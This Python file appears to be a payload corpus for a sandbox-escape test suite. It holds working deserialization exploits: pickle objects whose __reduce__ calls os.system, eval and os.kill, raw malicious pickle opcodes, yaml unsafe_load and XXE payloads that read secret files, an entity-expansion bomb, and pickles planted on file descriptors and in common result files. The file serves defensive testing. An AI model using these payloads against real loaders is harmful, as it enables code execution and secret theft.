"""Loaders that run code, and results that hope to be unpickled on the other side."""

from tests.escapes.corpus import TRY, Payload

# What a pickle does when somebody else loads it.
BAIT = TRY + r"""
import os, pickle, pickletools
tmp = os.environ.get("TMPDIR", "/tmp")
class Bait:
    def __init__(self, *call):
        self.call = call
    def __reduce__(self):
        return self.call[0], self.call[1:]
read = Bait(eval, "print(open('{{SECRET}}').read())")
write = Bait(os.system, "echo owned >> {{TARGET}}; touch {{TARGETDIR}}/owned")
connect = Bait(exec, "import socket; socket.create_connection(('127.0.0.1', {{PORT}}), 1)")
stop = Bait(os.kill, {{PID}}, 9)
baits = [read, write, connect, stop]
"""

PAYLOADS: list[Payload] = [
    Payload("pickle loaders", "pickle, marshal, shelve and copyreg", (BAIT, r"""
import copy, copyreg, marshal, shelve
for bait in baits:
    attempt("pickle", lambda: pickle.loads(pickle.dumps(bait)))
    attempt("copy", lambda: copy.deepcopy(bait))
attempt("opcodes", lambda: pickle.loads(b"cbuiltins\nopen\n(S'{{SECRET}}'\ntR."))
attempt("stack", lambda: pickle.loads(b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x0ccat {{SECRET}}\x85R."))
with shelve.open(tmp + "/shelf") as shelf:
    shelf["x"] = write
with shelve.open(tmp + "/shelf") as shelf:
    attempt("shelf", lambda: shelf["x"])
""")),
    Payload("pickle loaders", "a find_class that everybody trusts", (BAIT, r"""
import io
class Trust(pickle.Unpickler):
    def find_class(self, module, name):
        print(module, name)
        return super().find_class(module, name)
    def persistent_load(self, path):
        return open(path).read()
attempt("find", lambda: Trust(io.BytesIO(pickle.dumps(write))).load())
attempt("persistent", lambda: Trust(io.BytesIO(b"P{{SECRET}}\n.")).load())
attempt("dotted", lambda: pickle.loads(b"\x80\x04\x8c\x06random\x8c\x0a_os.system\x93\x8c\x0ccat {{SECRET}}\x85R."))
attempt("pandas", lambda: pickle.loads(b"\x80\x04\x8c\x10pandas.io.common\x8c\x09os.system\x93\x8c\x0ccat {{SECRET}}\x85R."))
""")),
    Payload("pickle loaders", "pandas.read_pickle and to_pickle", (BAIT, r"""
import pandas
for number, bait in enumerate(baits):
    attempt("write", lambda: pandas.to_pickle(bait, f"{tmp}/{number}.pkl"))
    attempt("read", lambda: pandas.read_pickle(f"{tmp}/{number}.pkl"))
attempt("url", lambda: pandas.read_pickle("http://127.0.0.1:{{PORT}}/x.pkl"))
attempt("secret", lambda: pandas.read_pickle("{{SECRET}}", compression=None))
attempt("zip", lambda: pandas.to_pickle(read, "{{TARGETDIR}}/owned.zip"))
""")),
    Payload("pickle loaders", "numpy.load with objects", (BAIT, r"""
import numpy, io
for number, bait in enumerate(baits):
    attempt("save", lambda: numpy.save(f"{tmp}/{number}.npy", numpy.array([bait], dtype=object), allow_pickle=True))
    attempt("load", lambda: numpy.load(f"{tmp}/{number}.npy", allow_pickle=True))
    attempt("raw", lambda: numpy.load(io.BytesIO(pickle.dumps(bait)), allow_pickle=True))
attempt("header", lambda: numpy.load(io.BytesIO(b"\x93NUMPY\x01\x00v\x00{'descr': __import__('os').system('cat {{SECRET}}')}")))
attempt("map", lambda: numpy.load("{{SECRET}}", mmap_mode="r+"))
attempt("open", lambda: numpy.lib.format.open_memmap("{{TARGET}}", mode="w+", shape=(4,)))
""")),
    Payload("pickle loaders", "joblib and cloudpickle", (BAIT, r"""
import joblib
for number, bait in enumerate(baits):
    attempt("dump", lambda: joblib.dump(bait, f"{tmp}/{number}.joblib"))
    attempt("load", lambda: joblib.load(f"{tmp}/{number}.joblib"))
attempt("memory", lambda: joblib.Memory("{{TARGETDIR}}").cache(lambda x: x)(1))
attempt("parallel", lambda: joblib.Parallel(2)(joblib.delayed(os.system)("cat {{SECRET}} >> {{TARGET}}") for _ in range(2)))
attempt("threads", lambda: joblib.Parallel(2, prefer="threads")(joblib.delayed(open)("{{SECRET}}") for _ in range(2))[0].read())
from joblib.externals import cloudpickle
attempt("cloud", lambda: pickle.loads(cloudpickle.dumps(lambda: open("{{SECRET}}").read()))())
""")),
    Payload("pickle loaders", "scipy, sklearn and statsmodels loaders", (BAIT, r"""
import scipy.io, scipy.sparse, numpy
attempt("mat", lambda: scipy.io.savemat(tmp + "/x.mat", {"x": numpy.array([1])}))
attempt("loadmat", lambda: scipy.io.loadmat("{{SECRET}}"))
attempt("npz", lambda: (numpy.savez(tmp + "/x.npz", format=numpy.array([write], dtype=object)),
                        numpy.load(tmp + "/x.npz", allow_pickle=True)["format"]))
attempt("sparse", lambda: scipy.sparse.load_npz(tmp + "/x.npz"))
import statsmodels.iolib.smpickle as smpickle
attempt("smpickle", lambda: (smpickle.save_pickle(write, tmp + "/sm.pkl"), smpickle.load_pickle(tmp + "/sm.pkl")))
attempt("results", lambda: __import__("statsmodels.api").api.load(tmp + "/sm.pkl"))
attempt("idl", lambda: scipy.io.readsav("{{SECRET}}"))
attempt("out", lambda: scipy.io.savemat("{{TARGETDIR}}/owned.mat", {"x": 1}))
""")),
    Payload("pickle loaders", "yaml, xml, plist and other readers", (TRY, r"""
import plistlib
attempt("yaml", lambda: __import__("yaml").unsafe_load("!!python/object/apply:os.system ['cat {{SECRET}}']"))
attempt("yaml", lambda: __import__("yaml").load("!!python/object/new:open ['{{SECRET}}']", __import__("yaml").Loader).read())
import xml.etree.ElementTree as tree, xml.sax, xml.dom.minidom
text = '<!DOCTYPE r [<!ENTITY e SYSTEM "file://{{SECRET}}"><!ENTITY h SYSTEM "http://127.0.0.1:{{PORT}}/">]><r>&e;&h;</r>'
attempt("etree", lambda: tree.tostring(tree.fromstring(text)))
attempt("dom", lambda: xml.dom.minidom.parseString(text).toxml())
parser = xml.sax.make_parser()
parser.setFeature(xml.sax.handler.feature_external_ges, True)
class Print(xml.sax.ContentHandler):
    def characters(self, text): print(text)
parser.setContentHandler(Print())
import io
attempt("sax", lambda: parser.parse(io.StringIO(text)))
attempt("pandas", lambda: __import__("pandas").read_xml(io.StringIO(text)))
attempt("lxml", lambda: __import__("lxml.etree").etree.fromstring(text.encode()))
attempt("bomb", lambda: tree.fromstring('<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + ']><x>&j;</x>'))
""")),
    Payload("pickle loaders", "multiprocessing queues and managers", (BAIT, r"""
import multiprocessing, multiprocessing.connection as c, multiprocessing.managers as m
left, right = multiprocessing.Pipe()
for bait in baits:
    attempt("pipe", lambda: (left.send(bait), right.recv()))
attempt("reduction", lambda: multiprocessing.reduction.DupFd(0))
attempt("shared", lambda: __import__("multiprocessing.shared_memory").shared_memory.SharedMemory(create=True, size=99).name)
attempt("client", lambda: c.Client(("127.0.0.1", {{PORT}}), authkey=b"x"))
attempt("client", lambda: c.Client("\0{{ABSTRACT}}"))
attempt("client", lambda: c.Client("{{UNIX}}"))
attempt("manager", lambda: m.BaseManager(("127.0.0.1", 0), b"x").start())
""")),
    Payload("pickled results", "the result is an object with __reduce__", (
        BAIT, "write", "read", "[write, {'x': read}, (stop,)]", "{'chart': connect}", "lambda: open('{{SECRET}}').read()")),
    Payload("pickled results", "the result is a pickle in every wrapping", (BAIT, r"""
import base64
pickle.dumps(write)
""", "base64.b64encode(pickle.dumps(write)).decode()",
        "{'type': 'pickle', 'data': base64.b64encode(pickle.dumps(stop)).decode()}",
        "{'__reduce__': ['os.system', ['touch {{TARGETDIR}}/owned']], 'py/object': 'os.system', 'py/reduce': [1]}",
        "{'application/x-python-pickle': pickle.dumps(connect)}", "bytearray(pickle.dumps(connect, 0))")),
    Payload("pickled results", "frames and arrays full of bait", (BAIT, r"""
import numpy, pandas
pandas.DataFrame({"a": baits})
""", "numpy.array(baits, dtype=object)", "pandas.Series(baits, index=baits).to_frame(write)",
        "frame = pandas.DataFrame({'a': [1]}); frame.attrs['x'] = write; frame",
        "pandas.DataFrame({'a': [1]}).set_flags(allows_duplicate_labels=True).pipe(lambda f: Bait(f.to_csv, '{{TARGET}}'))")),
    Payload("pickled results", "the error is the bait", (BAIT, r"""
class Boom(Exception):
    def __reduce__(self): return os.system, ("echo owned >> {{TARGET}}",)
    def __reduce_ex__(self, version): return self.__reduce__()
raise Boom(write, read)
""", r"""
class Args(Exception):
    args = property(lambda self: (write, open("{{SECRET}}").read()))
raise Args
""", "raise ExceptionGroup('x', [Boom(stop)])")),
    Payload("pickled results", "pickles left where the other side may look", (BAIT, r"""
for name in ("result.pkl", "state.pkl", "session.pickle", "output.joblib", "data.pkl", "checkpoint", ".cache.pkl", "stdin",
             "globals"):
    for folder in (tmp, ".", "/tmp", "/dev/shm"):
        attempt(name, lambda: pickle.dump(write, open(f"{folder}/{name}", "wb")))
""", "print(os.listdir(tmp))")),
    Payload("pickled results", "pickle bytes written straight to every descriptor", (BAIT, r"""
for fd in range(3, 64):
    for bait in baits:
        try:
            os.write(fd, pickle.dumps(bait))
            print("wrote to", fd)
        except OSError:
            pass
""", "print('alive')")),
]
